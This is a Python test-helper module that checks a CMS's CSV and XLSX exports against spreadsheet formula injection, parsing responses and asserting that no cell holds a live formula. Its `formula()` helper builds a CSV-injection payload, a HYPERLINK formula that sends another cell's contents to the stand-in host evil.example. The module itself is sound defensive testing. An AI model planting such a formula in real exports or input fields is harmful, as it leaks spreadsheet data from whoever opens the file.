"""Helpers of the tests that exports cannot carry a live formula (CSV injection).

Each export test puts `formula(prefix)` in a user-controlled value, for every
prefix a spreadsheet program reads as the start of a formula, and checks that
the cell comes out quoted (CSV text, and an XLSX string cell, not a formula).
"""

import csv
import io

from openpyxl import load_workbook

# Written out here, not imported from `cms.core.spreadsheets`, so that a
# prefix dropped there fails the tests.
PREFIXES = ("=", "+", "-", "@", "\t", "\r")
ORDINARY = "Layanan cepat, terima kasih"


def formula(prefix: str) -> str:
    return prefix + 'HYPERLINK("http://evil.example/?x="&B2,"Lihat")'


def csv_rows(response) -> list[list[str]]:
    if response.streaming:
        content = b"".join(response.streaming_content)
    else:
        content = response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def csv_values(response) -> list[str]:
    return [value for row in csv_rows(response) for value in row]


def xlsx_cells(response) -> list:
    """Every cell of the first sheet (reads the response's content once)."""
    if response.streaming:
        content = b"".join(response.streaming_content)
    else:
        content = response.content
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row]


def xlsx_cell(cells: list, value: str):
    """The one cell holding `value` (fails if none does). XML reads a carriage
    return in a cell's text back as a line feed."""
    wanted = value.replace("\r", "\n")
    (found,) = [cell for cell in cells if cell.value == wanted]
    return found


def has_no_formula(cells: list) -> bool:
    return all(cell.data_type != "f" for cell in cells)
